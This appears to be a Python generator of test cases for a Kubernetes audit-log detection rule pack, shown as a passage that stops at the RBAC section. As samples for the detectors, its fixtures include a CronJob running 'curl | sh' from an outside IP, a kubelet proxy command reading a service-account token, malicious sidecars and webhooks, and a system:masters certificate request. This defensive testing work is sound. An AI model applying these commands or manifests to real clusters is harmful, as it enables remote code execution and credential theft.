"""Writes cases.json for the k8scop-sigma-elastic pack.

Run `python3 rules-wasm/k8scop-sigma-elastic/gen_cases.py` after changing a
case; the output is deterministic (audit ids and times come from counters),
so a diff of cases.json shows exactly what changed. Events are real-looking
audit.k8s.io v1 and v1beta1 events at Metadata or RequestResponse level
(RequestResponse whenever a body is given), at every stage that matters.
"""
import json, itertools

P = "k8scop-sigma-elastic/"
KUBECTL = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"


import os as _os
import sys as _sys

# One table of the control plane's own agents for every pack's cases.
_sys.path.insert(0, _os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "..", "..", "tests"))
from gen_control_plane import component_agent  # noqa: E402


_n = itertools.count(1)
_t = itertools.count(0)

CORE = {"pods", "secrets", "configmaps", "events", "nodes", "serviceaccounts", "namespaces", "services"}
GROUPS = {
    "mutatingwebhookconfigurations": ("admissionregistration.k8s.io", "v1"),
    "validatingwebhookconfigurations": ("admissionregistration.k8s.io", "v1"),
    "certificatesigningrequests": ("certificates.k8s.io", "v1"),
    "selfsubjectrulesreviews": ("authorization.k8s.io", "v1"),
    "selfsubjectaccessreviews": ("authorization.k8s.io", "v1"),
    "deployments": ("apps", "v1"), "daemonsets": ("apps", "v1"), "statefulsets": ("apps", "v1"),
    "replicasets": ("apps", "v1"), "jobs": ("batch", "v1"), "cronjobs": ("batch", "v1"),
    "auditsinks": ("auditregistration.k8s.io", "v1alpha1"),
    "rolebindings": ("rbac.authorization.k8s.io", "v1"), "clusterrolebindings": ("rbac.authorization.k8s.io", "v1"),
    "roles": ("rbac.authorization.k8s.io", "v1"), "clusterroles": ("rbac.authorization.k8s.io", "v1"),
}

def ts(i, ms=0):
    return "2024-03-01T11:%02d:%02d.%06dZ" % (i // 60 % 60, i % 60, ms * 1000)

def uri_for(verb, resource, ns, name, sub, group, version, query):
    base = "/api/v1" if group == "" else "/apis/%s/%s" % (group, version)
    parts = [base]
    if ns:
        parts.append("namespaces/" + ns)
    parts.append(resource)
    # A create names no object in its path, unless it is a subresource's.
    if name and verb not in ("list", "watch", "deletecollection") and (verb != "create" or sub):
        parts.append(name)
    if sub:
        parts.append(sub)
    u = "/".join(parts)
    if verb == "watch":
        query = (query + "&" if query else "") + "watch=true"
    if query:
        u += "?" + query
    return u

def ev(verb, resource, user="alice", groups=("developers", "system:authenticated"), ns="", name="",
       sub="", code=200, stage="ResponseComplete", level=None, api="v1", req=None, resp=None,
       uri=None, ua=None, src=None, imp=None, query="", message=None, reason=None, api_group=None):
    group, version = GROUPS.get(resource, ("", "v1"))
    if ua is None:
        ua = component_agent(user or "") or KUBECTL
    if src is None:
        src = "::1" if user == "system:apiserver" else "203.0.113.7"
    if api_group is not None:
        group = api_group
    i = next(_n)
    t = next(_t) * 7
    if level is None:
        level = "RequestResponse" if (req is not None or resp is not None) else "Metadata"
    e = {"kind": "Event", "apiVersion": "audit.k8s.io/" + api, "level": level,
         "auditID": "5e1a%04d-7c2b-4d0e-9f1a-%012d" % (i, i), "stage": stage,
         "requestURI": uri or uri_for(verb, resource, ns, name, sub, group, version, query),
         "verb": verb, "user": {"username": user, "groups": list(groups)} if user is not None else {},
         "sourceIPs": [src], "userAgent": ua}
    if imp:
        e["impersonatedUser"] = imp
    if resource:
        o = {"resource": resource}
        if ns: o["namespace"] = ns
        if name: o["name"] = name
        if group: o["apiGroup"] = group
        o["apiVersion"] = version
        if sub: o["subresource"] = sub
        e["objectRef"] = o
    if stage != "RequestReceived" and code is not None:
        rs = {"metadata": {}, "code": code}
        if code >= 400:
            rs["status"] = "Failure"
            rs["reason"] = {401: "Unauthorized", 403: "Forbidden", 404: "NotFound", 409: "AlreadyExists", 422: "Invalid"}.get(code, "")
            rs["message"] = message or rs["reason"]
        e["responseStatus"] = rs
    if req is not None and level in ("Request", "RequestResponse"):
        e["requestObject"] = req
    if resp is not None and level == "RequestResponse" and stage != "RequestReceived":
        e["responseObject"] = resp
    e["requestReceivedTimestamp"] = ts(t)
    e["stageTimestamp"] = ts(t, 0 if stage == "RequestReceived" else 42)
    if api == "v1beta1":
        e["timestamp"] = ts(t)
        e["metadata"] = {"creationTimestamp": ts(t)}
    if stage != "RequestReceived":
        ann = {"authorization.k8s.io/decision": "forbid" if code == 403 else "allow"}
        if code != 403:
            ann["authorization.k8s.io/reason"] = reason or 'RBAC: allowed by ClusterRoleBinding "platform-admins" of ClusterRole "cluster-admin" to Group "developers"'
        if code == 401:
            ann = {}
        e["annotations"] = ann
    return e

def stages(**kw):
    """The same request at RequestReceived and ResponseComplete."""
    first = ev(stage="RequestReceived", **kw)
    second = ev(**kw)
    second["auditID"] = first["auditID"]
    return [first, second]

def exp(rule, event=0, severity=None, group=None, title=None, **fields):
    d = {"rule": P + rule, "event": event}
    if severity: d["severity"] = severity
    if group is not None: d["group"] = group
    if title: d["title"] = title
    if fields: d["fields"] = fields
    return d

cases = []
def case(name, rule, events, expect, config=None):
    c = {"name": name, "rule": P + rule}
    if config: c["config"] = config
    c["events"] = events if isinstance(events, list) else [events]
    c["expect"] = expect
    cases.append(c)

SA = lambda ns, n: "system:serviceaccount:%s:%s" % (ns, n)
SA_GROUPS = lambda ns: ["system:serviceaccounts", "system:serviceaccounts:" + ns, "system:authenticated"]

# ---------------------------------------------------------------- webhooks
MUT = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
       "metadata": {"name": "pod-policy"},
       "webhooks": [{"name": "inject.pod-policy.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None",
                     "failurePolicy": "Ignore", "clientConfig": {"url": "https://hooks.attacker.example/mutate"},
                     "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}]}]}
case("a mutating webhook calling a URL outside the cluster is created (counted once, at ResponseComplete)",
     "admission-webhook-changed",
     stages(verb="create", resource="mutatingwebhookconfigurations", user="mallory", name="pod-policy", code=201, req=MUT, resp=MUT),
     [exp("admission-webhook-changed", 1, "high", "mallory|mutatingwebhookconfigurations|pod-policy",
          "Created mutating admission webhook pod-policy", user="mallory", webhook_kind="mutating",
          webhooks="inject.pod-policy.example.com", webhook_targets="https://hooks.attacker.example/mutate",
          failure_policy="Ignore", verb="create", response_code="201")])
case("a validating webhook (Gatekeeper's) is deleted, v1beta1 Metadata level", "admission-webhook-changed",
     ev("delete", "validatingwebhookconfigurations", user="bob", name="gatekeeper-validating-webhook-configuration", api="v1beta1"),
     [exp("admission-webhook-changed", 0, "medium", title="Deleted validating admission webhook gatekeeper-validating-webhook-configuration",
          user="bob", webhook_kind="validating", name="gatekeeper-validating-webhook-configuration")])
VAL = {"webhooks": [{"name": "validation.gatekeeper.sh", "failurePolicy": "Fail",
                      "clientConfig": {"service": {"namespace": "gatekeeper-system", "name": "gatekeeper-webhook-service"}}}]}
case("a validating webhook is patched to point at another in-cluster service", "admission-webhook-changed",
     ev("patch", "validatingwebhookconfigurations", user="bob", name="gatekeeper-validating-webhook-configuration", req=VAL),
     [exp("admission-webhook-changed", 0, "medium", webhook_targets="service gatekeeper-system/gatekeeper-webhook-service",
          failure_policy="Fail", verb="patch")])
case("a forbidden (403) webhook creation changes nothing: only the refusal is reported", "admission-webhook-changed",
     ev("create", "mutatingwebhookconfigurations", user="mallory", name="pod-policy", code=403, req=MUT),
     [exp("request-forbidden", 0, "low", user="mallory", response_code="403")])
case("an already existing (409) or invalid (422) webhook, or a dry run, is no change", "admission-webhook-changed",
     [ev("create", "mutatingwebhookconfigurations", user="mallory", name="pod-policy", code=409, req=MUT),
      ev("create", "mutatingwebhookconfigurations", user="mallory", name="pod-policy", code=422, req=MUT),
      ev("create", "mutatingwebhookconfigurations", user="mallory", name="pod-policy", code=201, req=MUT, query="dryRun=All")], [])
case("the API server watching webhooks and the garbage collector deleting one are the control plane", "admission-webhook-changed",
     [ev("watch", "mutatingwebhookconfigurations", user="system:apiserver", groups=["system:masters"]),
      ev("delete", "validatingwebhookconfigurations", user=SA("kube-system", "generic-garbage-collector"), groups=SA_GROUPS("kube-system"), name="old-hook")], [])
case("cert-manager's CA injector patching caBundle is ignored once the operator lists it", "admission-webhook-changed",
     ev("patch", "validatingwebhookconfigurations", user=SA("cert-manager", "cert-manager-cainjector"), groups=SA_GROUPS("cert-manager"),
        name="cert-manager-webhook", ua="cainjector/v1.14.4 (linux/amd64) cert-manager/f1943433be7056804e4f628ff0d6685a132c407b"), [],
     config={"ignore_users": "system:kube-controller-manager,system:serviceaccount:kube-system:*,system:serviceaccount:cert-manager:*"})

# ---------------------------------------------------------------- CSRs
CSR_MASTERS = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIck1JR1RBZ0VBTURFeEZ6QVZCZ05WQkFvTURuTjVjM1JsYlRwdFlYTjBaWEp6TVJZd0ZBWURWUVFEREExdApZV3hzYjNKNUxXRmtiV2x1TUZrd0V3WUhLb1pJemowQ0FRWUlLb1pJemowREFRY0RRZ0FFRjFFVlBFTkZLdlVmCkF5bUljQUxLWFNoOGFqTSszYmwrckpoWjU4Y3lBc0VRTnoyY2hjNlVRbmt5UWRjbUg4NnAvVFRxcTVYUThtMWoKcDU3c1dZZTVPS0FBTUFvR0NDcUdTTTQ5QkFNQ0EwY0FNRVFDSUJicHhabTJNck5OS2tCQ29ZQmVxMnh5Q1NBeQpLaFRWUHo4MXhJaDY3SkJHQWlBSEUxVUdXVVN6aHVCaHZlc2VqV1pqRFhsUnFCWkFtVUlwTmo4YXNNdUpmUT09Ci0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo="
CSR_ALICE = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIZ01JR0hBZ0VBTUNVeEV6QVJCZ05WQkFvTUNtUmxkbVZzYjNCbGNuTXhEakFNQmdOVkJBTU1CV0ZzYVdObApNRmt3RXdZSEtvWkl6ajBDQVFZSUtvWkl6ajBEQVFjRFFnQUUyWElpOEZxcUlyTndYUU80MEpyVm1JL2dubU9zClRuU01UYWhOc2VTcjJrOUl2cU80ejkweVdvYkE0ODllckdnaDhJVmp3U1djN1hKbnNESGg1RzByWWFBQU1Bb0cKQ0NxR1NNNDlCQU1DQTBnQU1FVUNJUURPamltZTZRYmhOdzg1Q1plQnljRXJNYjZYd0tPTld4c1hiSFBqMXZxOApsd0lnRGRnbXpyazBBYm9jdmYvTTBqYXlOUjkrS05ucTBHcFExOTd3TzAzVW95QT0KLS0tLS1FTkQgQ0VSVElGSUNBVEUgUkVRVUVTVC0tLS0tCg=="
CSR_NODE = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIMU1JR2NBZ0VBTURveEZUQVRCZ05WQkFvTURITjVjM1JsYlRwdWIyUmxjekVoTUI4R0ExVUVBd3dZYzNsegpkR1Z0T201dlpHVTZhMmx1WkMxM2IzSnJaWEl6TUZrd0V3WUhLb1pJemowQ0FRWUlLb1pJemowREFRY0RRZ0FFCmpaWU9yWVdoVE1SaE1IQisxTFM4U29pWHFmTStXVFI4MnhuY3ZHTjBkOVd6YVRKU2t3N1hHdFdoamFHazQ0SUgKbjRWMENJR0ZDQjNTdkEvQlowbDgycUFBTUFvR0NDcUdTTTQ5QkFNQ0EwZ0FNRVVDSVFDQndRS25hbzdUVXVhNgpVSUdWM1JIdEUvWmplSS9Ma0t4NWJKb2tVV3BIZndJZ0JoTERkL05pakZDZGsveHRyV3dEaGZjSnhNU1c0bVNqCkhqRDBZanNkR0hJPQotLS0tLUVORCBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K"

def csr(name, request, signer="kubernetes.io/kube-apiserver-client", usages=("client auth",), conditions=None, username=None):
    o = {"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": name},
         "spec": {"request": request, "signerName": signer, "usages": list(usages), "expirationSeconds": 31536000}}
    if username: o["spec"]["username"] = username
    if conditions: o["status"] = {"conditions": conditions}
    return o
APPROVED = [{"type": "Approved", "status": "True", "reason": "KubectlApprove", "message": "This CSR was approved by kubectl certificate approve."}]
DENIED = [{"type": "Denied", "status": "True", "reason": "KubectlDeny", "message": "This CSR was denied by kubectl certificate deny."}]
NODE_CSR = csr("csr-8x2kq", CSR_NODE, signer="kubernetes.io/kube-apiserver-client-kubelet", usages=("digital signature", "client auth"),
               username="system:bootstrap:abcdef")

case("alice requests a client certificate for herself (RequestResponse: subject read from the CSR)", "csr-created",
     ev("create", "certificatesigningrequests", name="alice-client", code=201, req=csr("alice-client", CSR_ALICE)),
     [exp("csr-created", 0, "medium", "alice|alice-client", user="alice", csr="alice-client",
          signer="kubernetes.io/kube-apiserver-client", subject_cn="alice", subject_o="developers", usages="client auth", action="requested")])
case("bob creates a CSR, v1beta1 Metadata level (no body: no subject, still an alert)", "csr-created",
     ev("create", "certificatesigningrequests", user="bob", name="bob-cert", code=201, api="v1beta1"),
     [exp("csr-created", 0, "medium", "bob|bob-cert", user="bob", csr="bob-cert", action="requested")])
case("kubelet TLS bootstrap (system:bootstrap:*) and a kubelet renewing its certificate are routine", "csr-created",
     [ev("create", "certificatesigningrequests", user="system:bootstrap:abcdef", groups=["system:bootstrappers", "system:bootstrappers:kubeadm:default-node-token", "system:authenticated"],
         name="csr-8x2kq", code=201, req=NODE_CSR, ua="kubelet/v1.29.2 (linux/amd64) kubernetes/4b8e819", src="172.18.0.4"),
      ev("create", "certificatesigningrequests", user="system:node:kind-worker", groups=["system:nodes", "system:authenticated"],
         name="csr-q9wz4", code=201, ua="kubelet/v1.29.2 (linux/amd64) kubernetes/4b8e819", src="172.18.0.3")], [])
case("a CSR logged only at RequestReceived, or refused with 403, created nothing", "csr-created",
     [ev("create", "certificatesigningrequests", name="alice-client", stage="RequestReceived", req=csr("alice-client", CSR_ALICE)),
      ev("create", "certificatesigningrequests", name="alice-client", code=403)],
     [exp("request-forbidden", 1, "low", user="alice")])

case("alice approves a CSR (kubectl certificate approve)", "csr-approved",
     ev("update", "certificatesigningrequests", name="alice-client", sub="approval",
        req=csr("alice-client", CSR_ALICE, conditions=APPROVED, username="alice")),
     [exp("csr-approved", 0, "high", "alice|alice-client", user="alice", action="approved", subject_cn="alice",
          requestor="alice", resource="certificatesigningrequests/approval")])
case("a denial goes through the same subresource and is no approval", "csr-approved",
     ev("update", "certificatesigningrequests", name="alice-client", sub="approval",
        req=csr("alice-client", CSR_ALICE, conditions=DENIED, username="alice")), [])
case("an approval at Metadata level cannot be told from a denial: nothing", "csr-approved",
     ev("update", "certificatesigningrequests", name="alice-client", sub="approval", api="v1beta1"), [])
case("the controller-manager approving a node's bootstrap CSR is the cluster working", "csr-approved",
     ev("update", "certificatesigningrequests", user="system:kube-controller-manager", groups=["system:authenticated"], name="csr-8x2kq", sub="approval",
        req=csr("csr-8x2kq", CSR_NODE, signer="kubernetes.io/kube-apiserver-client-kubelet", usages=("digital signature", "client auth"),
                conditions=[{"type": "Approved", "status": "True", "reason": "AutoApproved", "message": "Auto approving kubelet client certificate after SubjectAccessReview."}],
                username="system:bootstrap:abcdef"),
        ua="kube-controller-manager/v1.29.2 (linux/amd64) kubernetes/4b8e819/system:serviceaccount:kube-system:certificate-controller", src="172.18.0.2"), [])

case("mallory requests a certificate with O=system:masters", "csr-privileged-identity",
     ev("create", "certificatesigningrequests", user="mallory", name="mallory-admin", code=201, req=csr("mallory-admin", CSR_MASTERS)),
     [exp("csr-privileged-identity", 0, "critical", "mallory|mallory-admin", "Certificate requested for privileged identity system:masters",
          user="mallory", subject_cn="mallory-admin", subject_o="system:masters", privileged_subject="system:masters", action="requested")])
case("and approves it herself (v1beta1, patch)", "csr-privileged-identity",
     ev("patch", "certificatesigningrequests", user="mallory", name="mallory-admin", sub="approval", api="v1beta1",
        req=csr("mallory-admin", CSR_MASTERS, conditions=APPROVED, username="mallory")),
     [exp("csr-privileged-identity", 0, "critical", title="Certificate approved for privileged identity system:masters",
          user="mallory", action="approved", privileged_subject="system:masters", requestor="mallory")])
case("a patch approving it carries only the condition: the subject comes from the response", "csr-privileged-identity",
     ev("patch", "certificatesigningrequests", user="mallory", name="mallory-admin", sub="approval",
        req={"status": {"conditions": APPROVED}}, resp=csr("mallory-admin", CSR_MASTERS, conditions=APPROVED, username="mallory")),
     [exp("csr-privileged-identity", 0, "critical", action="approved", subject_cn="mallory-admin", privileged_subject="system:masters")])
case("a node certificate (CN system:node:*, O system:nodes) is not a privileged subject", "csr-privileged-identity",
     ev("create", "certificatesigningrequests", user="system:bootstrap:abcdef", groups=["system:bootstrappers", "system:authenticated"],
        name="csr-8x2kq", code=201, req=NODE_CSR, ua="kubelet/v1.29.2 (linux/amd64) kubernetes/4b8e819"), [])
case("a privileged CSR the API server refused (403) or rejected (422) issues nothing", "csr-privileged-identity",
     [ev("create", "certificatesigningrequests", user="mallory", name="mallory-admin", code=403, req=csr("mallory-admin", CSR_MASTERS)),
      ev("create", "certificatesigningrequests", user="mallory", name="mallory-admin", code=422, req=csr("mallory-admin", CSR_MASTERS))],
     [exp("request-forbidden", 0, "low", user="mallory")])

# ---------------------------------------------------------------- impersonation
case("alice impersonates a member of system:masters", "privileged-impersonation",
     ev("list", "secrets", ns="payments", imp={"username": "ops-bot", "groups": ["system:masters"]}),
     [exp("privileged-impersonation", 0, "high", "alice|ops-bot|system:masters", "alice impersonated ops-bot",
          user="alice", impersonated_user="ops-bot", impersonated_groups="system:masters", privileged_groups="system:masters"),
      exp("secrets-enumerated", 0, "medium", user="alice", scope="payments")])
case("bob impersonates a kube-system service account (v1beta1)", "privileged-impersonation",
     ev("get", "clusterroles", user="bob", name="cluster-admin", api="v1beta1", api_group="rbac.authorization.k8s.io",
        uri="/apis/rbac.authorization.k8s.io/v1/clusterroles/cluster-admin",
        imp={"username": SA("kube-system", "clusterrole-aggregation-controller"), "groups": ["system:serviceaccounts"]}),
     [exp("privileged-impersonation", 0, "high", user="bob", impersonated_user=SA("kube-system", "clusterrole-aggregation-controller"))])
case("impersonating an ordinary user is not privileged", "privileged-impersonation",
     ev("get", "pods", ns="shop", name="web-7d4b9c-x2x9q", imp={"username": "carol", "groups": ["developers"]}), [])
case("a refused impersonation (403) grants nothing: only the refusal is reported", "privileged-impersonation",
     ev("get", "nodes", name="kind-worker", code=403, imp={"username": "system:admin"}),
     [exp("request-forbidden", 0, "low", user="alice", impersonated_user="system:admin")])

# ---------------------------------------------------------------- node proxy
case("mallory lists the pods of a node through the kubelet proxy", "node-proxy",
     ev("get", "nodes", user="mallory", name="kind-worker", sub="proxy", uri="/api/v1/nodes/kind-worker/proxy/pods"),
     [exp("node-proxy", 0, "medium", "mallory|kind-worker|pods", "Kubelet /pods of node kind-worker reached through the API server",
          user="mallory", node="kind-worker", kubelet_path="/pods", resource="nodes/proxy")])
case("running a command through the kubelet's /run is high (v1beta1)", "node-proxy",
     ev("create", "nodes", user="mallory", name="kind-worker", sub="proxy", api="v1beta1",
        uri="/api/v1/nodes/kind-worker/proxy/run/shop/web-7d4b9c-x2x9q/web?cmd=cat+/var/run/secrets/kubernetes.io/serviceaccount/token"),
     [exp("node-proxy", 0, "high", user="mallory", kubelet_path="/run/shop/web-7d4b9c-x2x9q/web")])
case("Prometheus scraping cAdvisor metrics through the proxy is monitoring", "node-proxy",
     ev("get", "nodes", user=SA("monitoring", "prometheus-k8s"), groups=SA_GROUPS("monitoring"), name="kind-worker", sub="proxy",
        uri="/api/v1/nodes/kind-worker/proxy/metrics/cadvisor", ua="Prometheus/2.51.0"), [])
case("a refused kubelet proxy request reached nothing", "node-proxy",
     ev("get", "nodes", user="mallory", name="kind-worker", sub="proxy", uri="/api/v1/nodes/kind-worker/proxy/pods", code=403),
     [exp("request-forbidden", 0, "low", user="mallory")])

# ---------------------------------------------------------------- ephemeral containers
def pod_with_ephemeral(caps=None):
    c = {"name": "debugger-5xk2p", "image": "nicolaka/netshoot:v0.12", "targetContainerName": "web", "command": ["sh"],
         "stdin": True, "tty": True}
    if caps: c["securityContext"] = {"capabilities": {"add": caps}}
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "web-7d4b9c-x2x9q", "namespace": "shop"},
            "spec": {"ephemeralContainers": [c]}}
# ---------------------------------------------------------------- capabilities
def pod(name, ns, containers, init=None, volumes=None, sa=None, sc=None, host=None):
    spec = {"containers": containers}
    if init: spec["initContainers"] = init
    if volumes: spec["volumes"] = volumes
    if sa: spec["serviceAccountName"] = sa
    if sc: spec["securityContext"] = sc
    if host: spec.update(host)
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": ns}, "spec": spec}
def workload(kind, name, ns, template_spec, extra=None):
    spec = {"selector": {"matchLabels": {"app": name}}, "template": {"metadata": {"labels": {"app": name}}, "spec": template_spec}}
    if extra: spec.update(extra)
    return {"apiVersion": "apps/v1", "kind": kind, "metadata": {"name": name, "namespace": ns}, "spec": spec}
def ctr(name, image, caps=None, sc=None, mounts=None, **kw):
    c = {"name": name, "image": image}
    s = dict(sc or {})
    if caps: s["capabilities"] = {"add": caps}
    if s: c["securityContext"] = s
    if mounts: c["volumeMounts"] = mounts
    c.update(kw)
    return c

case("a pod whose container adds SYS_PTRACE", "excessive-capabilities",
     ev("create", "pods", ns="shop", name="tracer", code=201, req=pod("tracer", "shop", [ctr("app", "alpine:3.19", ["SYS_PTRACE", "NET_BIND_SERVICE"])])),
     [exp("excessive-capabilities", 0, "medium", "shop|tracer|app|SYS_PTRACE", "Container app adds SYS_PTRACE",
          container="app", container_kind="container", image="alpine:3.19", capabilities="SYS_PTRACE", user="alice")])
case("a Deployment whose init container adds CAP_SYS_ADMIN is high (v1beta1)", "excessive-capabilities",
     ev("create", "deployments", user="bob", ns="shop", name="mounter", code=201, api="v1beta1",
        req=workload("Deployment", "mounter", "shop", {"containers": [ctr("app", "nginx:1.25")],
                                                        "initContainers": [ctr("setup", "busybox:1.36", ["CAP_SYS_ADMIN"])]})),
     [exp("excessive-capabilities", 0, "high", container="setup", container_kind="initContainer", capabilities="SYS_ADMIN", user="bob")])
case("an ephemeral debug container added with NET_ADMIN", "excessive-capabilities",
     ev("patch", "pods", ns="shop", name="web-7d4b9c-x2x9q", sub="ephemeralcontainers", req=pod_with_ephemeral(["NET_ADMIN"])),
     [exp("excessive-capabilities", 0, "medium", container="debugger-5xk2p", container_kind="ephemeralContainer", capabilities="NET_ADMIN",
          resource="pods/ephemeralcontainers", image="nicolaka/netshoot:v0.12")])
case("harmless capabilities, a Metadata-level create and a refused create raise no capability alert", "excessive-capabilities",
     [ev("create", "pods", ns="shop", name="web", code=201, req=pod("web", "shop", [ctr("app", "nginx:1.25", ["NET_BIND_SERVICE", "CHOWN"])])),
      ev("create", "pods", ns="shop", name="tracer", code=201),
      ev("create", "pods", ns="shop", name="tracer", code=403, req=pod("tracer", "shop", [ctr("app", "alpine:3.19", ["SYS_ADMIN"])]))],
     [exp("request-forbidden", 2, "low")])
case("an image the operator trusts may add capabilities", "excessive-capabilities",
     ev("create", "daemonsets", user="bob", ns="elastic", name="elastic-agent", code=201,
        req=workload("DaemonSet", "elastic-agent", "elastic", {"containers": [ctr("agent", "docker.elastic.co/beats/elastic-agent:8.13.0", ["SYS_ADMIN", "SYS_PTRACE"])]})),
     [], config={"trusted_images": "docker.elastic.co/beats/elastic-agent*"})
case("the operator's capability list replaces the default", "excessive-capabilities",
     ev("create", "pods", ns="shop", name="pinger", code=201, req=pod("pinger", "shop", [ctr("app", "alpine:3.19", ["NET_RAW", "SYS_PTRACE"])])),
     [exp("excessive-capabilities", 0, "medium", capabilities="NET_RAW")], config={"dangerous_capabilities": "net_raw"})

# ---------------------------------------------------------------- events deleted
case("alice deletes every event of a namespace", "events-deleted",
     ev("deletecollection", "events", ns="shop"),
     [exp("events-deleted", 0, "medium", "alice|shop", user="alice", scope="shop", verb="deletecollection")])
case("bob deletes one event through events.k8s.io (v1beta1)", "events-deleted",
     ev("delete", "events", user="bob", ns="shop", name="web-7d4b9c-x2x9q.17b8a6c3f2d1e0a9", api="v1beta1", api_group="events.k8s.io",
        uri="/apis/events.k8s.io/v1/namespaces/shop/events/web-7d4b9c-x2x9q.17b8a6c3f2d1e0a9"),
     [exp("events-deleted", 0, "medium", user="bob", name="web-7d4b9c-x2x9q.17b8a6c3f2d1e0a9")])
case("the namespace controller emptying a deleted namespace, kubelets creating events, a refused delete", "events-deleted",
     [ev("deletecollection", "events", user=SA("kube-system", "namespace-controller"), groups=SA_GROUPS("kube-system"), ns="old-team"),
      ev("create", "events", user="system:node:kind-worker", groups=["system:nodes"], ns="shop", code=201),
      ev("deletecollection", "events", ns="shop", code=403)],
     [exp("request-forbidden", 2, "low")])

# ---------------------------------------------------------------- cronjobs
CRON = {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "cache-warmer", "namespace": "shop"},
        "spec": {"schedule": "*/1 * * * *", "jobTemplate": {"spec": {"template": {"spec": {"restartPolicy": "Never",
                 "containers": [{"name": "warm", "image": "alpine:3.19", "command": ["sh", "-c"], "args": ["curl -s http://198.51.100.9/x | sh"]}]}}}}}}
case("mallory creates a CronJob running every minute", "cronjob-changed",
     ev("create", "cronjobs", user="mallory", ns="shop", name="cache-warmer", code=201, req=CRON),
     [exp("cronjob-changed", 0, "medium", "mallory|cronjobs|shop|cache-warmer", "Created CronJob shop/cache-warmer",
          kind="CronJob", schedule="*/1 * * * *", image="alpine:3.19", command="sh -c curl -s http://198.51.100.9/x | sh", user="mallory")])
case("bob patches a CronJob (Metadata level) and creates a Job by hand (v1beta1)", "cronjob-changed",
     [ev("patch", "cronjobs", user="bob", ns="shop", name="nightly-report"),
      ev("create", "jobs", user="bob", ns="shop", name="manual-report-1", code=201, api="v1beta1")],
     [exp("cronjob-changed", 0, "medium", title="Patched CronJob shop/nightly-report", kind="CronJob"),
      exp("cronjob-changed", 1, "medium", title="Created Job shop/manual-report-1", kind="Job")])
case("the CronJob controller creating its Jobs, deleting a CronJob, a 409 create: nothing", "cronjob-changed",
     [ev("create", "jobs", user=SA("kube-system", "cronjob-controller"), groups=SA_GROUPS("kube-system"), ns="shop", name="nightly-report-28494720", code=201),
      ev("delete", "cronjobs", user="bob", ns="shop", name="nightly-report"),
      ev("create", "cronjobs", user="mallory", ns="shop", name="cache-warmer", code=409, req=CRON)], [])

# ---------------------------------------------------------------- sidecar injection
WEB = {"containers": [ctr("web", "registry.example.com/shop/web:1.4.2", ports=[{"containerPort": 8080}])]}
WEB_TAP = {"containers": [ctr("web", "registry.example.com/shop/web:1.4.2", ports=[{"containerPort": 8080}]),
                          ctr("log-forwarder", "ghcr.io/attacker/tap:latest", command=["/tap", "--to", "198.51.100.9:443"])]}
WEB_NEW = {"containers": [ctr("web", "registry.example.com/shop/web:1.5.0", ports=[{"containerPort": 8080}])]}
case("a container appears in a Deployment's update, compared with the spec it was created with", "sidecar-injected",
     [ev("create", "deployments", user="bob", ns="shop", name="web", code=201, req=workload("Deployment", "web", "shop", WEB), resp=workload("Deployment", "web", "shop", WEB)),
      ev("update", "deployments", user="mallory", ns="shop", name="web", req=workload("Deployment", "web", "shop", WEB_TAP), resp=workload("Deployment", "web", "shop", WEB_TAP))],
     [exp("sidecar-injected", 1, "medium", "mallory|shop|web|log-forwarder", "Container log-forwarder added to Deployment shop/web",
          user="mallory", workload="Deployment/web", container="log-forwarder", container_kind="container", image="ghcr.io/attacker/tap:latest",
          evidence="compared with the workload's last known containers")])
case("a JSON patch appending a container to a DaemonSet (v1beta1)", "sidecar-injected",
     ev("patch", "daemonsets", user="mallory", ns="kube-system", name="kube-proxy", api="v1beta1",
        req=[{"op": "add", "path": "/spec/template/spec/containers/-", "value": {"name": "node-agent", "image": "ghcr.io/attacker/agent:1"}}],
        uri="/apis/apps/v1/namespaces/kube-system/daemonsets/kube-proxy"),
     [exp("sidecar-injected", 0, "medium", container="node-agent", image="ghcr.io/attacker/agent:1", evidence="JSON patch adds a container")])
case("a strategic-merge patch defining a whole new container in a StatefulSet never seen before", "sidecar-injected",
     ev("patch", "statefulsets", user="mallory", ns="shop", name="db",
        req={"spec": {"template": {"spec": {"containers": [ctr("backup", "ghcr.io/attacker/exfil:2", command=["/exfil"], volumeMounts=[{"name": "data", "mountPath": "/data"}])]}}}}),
     [exp("sidecar-injected", 0, "medium", container="backup", evidence="patch defines a whole container", workload="StatefulSet/db")])
case("kubectl set image, a scale patch, a Metadata-level patch and an image update add no container", "sidecar-injected",
     [ev("create", "deployments", user="bob", ns="shop", name="web", code=201, req=workload("Deployment", "web", "shop", WEB), resp=workload("Deployment", "web", "shop", WEB)),
      ev("patch", "deployments", user="bob", ns="shop", name="web", req={"spec": {"template": {"spec": {"containers": [{"name": "web", "image": "registry.example.com/shop/web:1.5.0"}]}}}}),
      ev("patch", "deployments", user="bob", ns="shop", name="web", req={"spec": {"replicas": 5}}),
      ev("patch", "deployments", user="bob", ns="shop", name="web"),
      ev("update", "deployments", user="bob", ns="shop", name="web", req=workload("Deployment", "web", "shop", WEB_NEW), resp=workload("Deployment", "web", "shop", WEB_NEW))], [])
case("a refused (403) update adding a container changed nothing", "sidecar-injected",
     [ev("create", "deployments", user="bob", ns="shop", name="web", code=201, req=workload("Deployment", "web", "shop", WEB), resp=workload("Deployment", "web", "shop", WEB)),
      ev("update", "deployments", user="mallory", ns="shop", name="web", code=403, req=workload("Deployment", "web", "shop", WEB_TAP))],
     [exp("request-forbidden", 1, "low", user="mallory")])

# ---------------------------------------------------------------- RBAC self reviews
case("alice lists her own permissions (kubectl auth can-i --list)", "rbac-permissions-enumerated",
